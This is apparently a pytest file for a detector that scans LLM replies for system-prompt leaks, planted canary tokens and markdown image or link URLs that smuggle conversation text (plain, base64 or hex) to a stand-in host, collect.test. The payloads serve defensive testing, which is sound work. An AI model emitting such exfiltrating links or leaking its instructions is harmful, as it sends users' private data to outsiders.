"""What is a threat only because of what else was said."""

import base64
import time

import pytest

from sidecar.decode import readings
from sidecar.detectors.contextual import CONTEXTUAL, Carried, SystemPrompt, canaries, for_reply
from sidecar.types import Finding, LlmMessage, Segment, Surface

SYSTEM = (
    "You are Marla, the night clerk of a small hotel in Brest. Speak briefly and kindly, never promise a room you have not"
    " seen free in the register, and hand every complaint about noise to the porter on the second floor. Guests who ask for a"
    " late breakfast get the code of the kitchen door, which changes on Mondays. Do not talk about the owner's family or the"
    " repairs of the lift. When somebody asks for a discount, offer the weekly price list first and the manager's number last."
)
ASKED = "The parcel for room twelve was addressed to my sister Odile Kermarec and never came"


def request(*segments: Segment) -> LlmMessage:
    return LlmMessage("openai_chat", (Segment(SYSTEM, Surface.SYSTEM, 0), Segment(ASKED, Surface.USER, 1), *segments))


def found(answer: str, surface: Surface = Surface.OUTPUT, message: LlmMessage | None = None) -> list[Finding]:
    detectors = for_reply(message or request(), ())
    segment = Segment(answer, surface)
    return [finding for view in readings(segment) for detector in detectors for finding in detector.detect(view)]


def rules(answer: str, surface: Surface = Surface.OUTPUT, message: LlmMessage | None = None) -> set[str]:
    return {finding.rule_id for finding in found(answer, surface, message)}


# ── the system prompt ───────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("surface", [Surface.OUTPUT, Surface.TOOL_CALL])
def test_the_whole_prompt_is_a_leak(surface: Surface) -> None:
    (finding,) = found(f"Of course! They are:\n\n{SYSTEM}\n\nAnything else?", surface)
    assert (finding.rule_id, finding.weight) == ("system_prompt_leak.most", 9.0)
    text = f"Of course! They are:\n\n{SYSTEM}"
    assert (finding.span.start, finding.span.end) == (text.index("You are Marla"), len(text) - 1)


def test_two_sentences_in_a_row_are_a_leak_whatever_their_case_and_marks() -> None:
    passage = " ".join(SYSTEM.split()[10:44])
    assert rules(f"It says: * {passage.upper().replace(',', ' --')}") == {"system_prompt_leak.verbatim"}


def test_a_prompt_in_base64_is_a_leak() -> None:
    assert "system_prompt_leak.most" in rules(base64.b64encode(SYSTEM.encode()).decode())


@pytest.mark.parametrize(
    "answer",
    [
        "I am Marla, the night clerk of a small hotel in Brest. How can I help you?",
        "The code of the kitchen door changes on Mondays; I can give it to guests who ask for a late breakfast.",
        " ".join(SYSTEM.split()[30:55]),
        "I cannot share my instructions.",
        "",
    ],
)
def test_an_answer_that_quotes_a_little_is_none(answer: str) -> None:
    assert rules(answer) == set()


def test_what_the_user_has_said_too_is_no_leak() -> None:
    quoted = request(Segment(f"Proofread this: {SYSTEM}", Surface.USER, 2))
    assert rules(SYSTEM, message=quoted) == set()


def test_reasoning_about_the_prompt_and_a_short_prompt_are_no_leaks() -> None:
    assert rules(SYSTEM, Surface.REASONING) == set()
    short = LlmMessage("x", (Segment("You are a helpful assistant who answers in French.", Surface.SYSTEM),))
    assert rules("You are a helpful assistant who answers in French.", message=short) == set()


def test_scripts_without_spaces_are_read_too() -> None:
    prompt = "あなたは小さなホテルの夜勤係です。苦情は必ず二階の係に伝えてください。割引の話は最後にしてください。"
    message = LlmMessage("x", (Segment(prompt, Surface.SYSTEM),))
    assert rules(f"はい。{prompt}", message=message) == {"system_prompt_leak.most"}


# ── canaries ────────────────────────────────────────────────────────────────────────────────────────────────────────


def seen(text: str, surface: Surface) -> list[tuple[str, str]]:
    (detector,) = canaries(("Violet-Otter-4417",))
    views = readings(Segment(text, surface))
    return [(f.rule_id, text[f.span.start : f.span.end]) for view in views for f in detector.detect(view)]


@pytest.mark.parametrize(
    "surface", [Surface.OUTPUT, Surface.USER, Surface.TOOL_CALL, Surface.REASONING, Surface.TOOL_RESULT]
)
def test_a_canary_is_found_where_it_must_not_be(surface: Surface) -> None:
    assert seen("it is Violet-Otter-4417.", surface)[0] == ("canary.seen", "Violet-Otter-4417")


def test_a_canary_is_found_in_disguise() -> None:
    assert seen("violet-otter-4417", Surface.OUTPUT)
    assert seen(base64.b64encode(b"it is Violet-Otter-4417, friend").decode(), Surface.OUTPUT)


@pytest.mark.parametrize("surface", [Surface.SYSTEM, Surface.TOOL_DEFINITION])
def test_a_canary_may_stand_where_it_was_planted(surface: Surface) -> None:
    assert seen("Violet-Otter-4417", surface) == []


def test_without_canaries_and_without_a_request_there_is_nothing_to_look_for() -> None:
    assert canaries(()) == ()
    assert for_reply(None, ()) == ()
    assert [d.name for d in for_reply(request(), ("Violet-Otter-4417",))] == ["canaries", "system_prompt", "carried"]


# ── what addresses carry ────────────────────────────────────────────────────────────────────────────────────────────

HOST = "https://collect.test"
ENCODED = base64.urlsafe_b64encode(b"parcel: addressed to my sister Odile Kermarec").decode()


@pytest.mark.parametrize(
    ("answer", "rule"),
    [
        (f"![status]({HOST}/p.png?q=addressed+to+my+sister)", "exfiltration.image_carries"),
        (f"![](<{HOST}/addressed%20to%20my%20sister/x.png>)", "exfiltration.image_carries"),
        (f'<img alt="x" src = "{HOST}/p?d=addressed-to-my-sister">', "exfiltration.image_carries"),
        (f"![s]({HOST}/p.png?q={ENCODED})", "exfiltration.carries_hidden"),
        (f"[more]({HOST}/r?q={ENCODED})", "exfiltration.carries_hidden"),
        (f"[more]({HOST}/r?q={b'addressed to my sister'.hex()})", "exfiltration.carries_hidden"),
        (f"[more]({HOST}/r?q=never+promise+a+room+you+have)", "exfiltration.carries_hidden"),
        (f"see {HOST}/?q={ASKED.replace(' ', '_')}", "exfiltration.link_carries"),
    ],
)
def test_an_address_that_carries_the_conversation_is_found(answer: str, rule: str) -> None:
    (finding,) = found(answer)
    assert finding.rule_id == rule
    assert answer[finding.span.start : finding.span.end].startswith(HOST)


@pytest.mark.parametrize(
    "answer",
    [
        "![Our office](https://example.com/images/office-front-2024.png)",
        "[search](https://search.test/?q=parcel+for+room+twelve)",
        "![map](https://maps.test/static?center=48.39,-4.48&zoom=13&size=600x300&key=abc)",
        "![signed](https://cdn.test/a.png?X-Amz-Signature=0f343b0931126a20f133d67c2b018a3b9c7f1f4e1d1c2b3a4d5e6f7081920a1b)",
        "Write to addressed.to@my.sister or see https://x.test/",
    ],
)
def test_an_ordinary_address_is_none(answer: str) -> None:
    assert rules(answer) == set()


def test_an_address_that_was_given_to_the_model_may_come_back() -> None:
    url = f"{HOST}/the-parcel-of-my-sister-and-her-four-cats-in-brest-for-room-twelve-and-more.png"
    assert rules(f"![x]({url})", message=request(Segment(f"show {url}", Surface.USER, 2))) == set()


def test_an_address_in_a_tool_call_is_read() -> None:
    assert rules(f'{{"url": "{HOST}/?q={ENCODED}"}}', Surface.TOOL_CALL) == {"exfiltration.carries_hidden"}


# ── all of them ─────────────────────────────────────────────────────────────────────────────────────────────────────


def test_rules_have_ids_of_their_own() -> None:
    ids = [rule.id for detector in CONTEXTUAL for rule in detector.RULES]
    assert len(set(ids)) == len(ids) == 6


@pytest.mark.parametrize(
    "unit", ["https://x.test/?q=a+b+c+d+e+f ", "![[[", "src=", "a b c d ", "](https://", "QUJD" * 6 + " "]
)
def test_hostile_answers_take_linear_time(unit: str) -> None:
    text = unit * (200_000 // len(unit))
    message = request(Segment(text, Surface.USER, 2), Segment(text, Surface.SYSTEM, 3))
    started = time.perf_counter()
    for detector in (SystemPrompt(message), Carried(message)):
        for view in readings(Segment(text, Surface.OUTPUT)):
            detector.detect(view)
    assert time.perf_counter() - started < 5
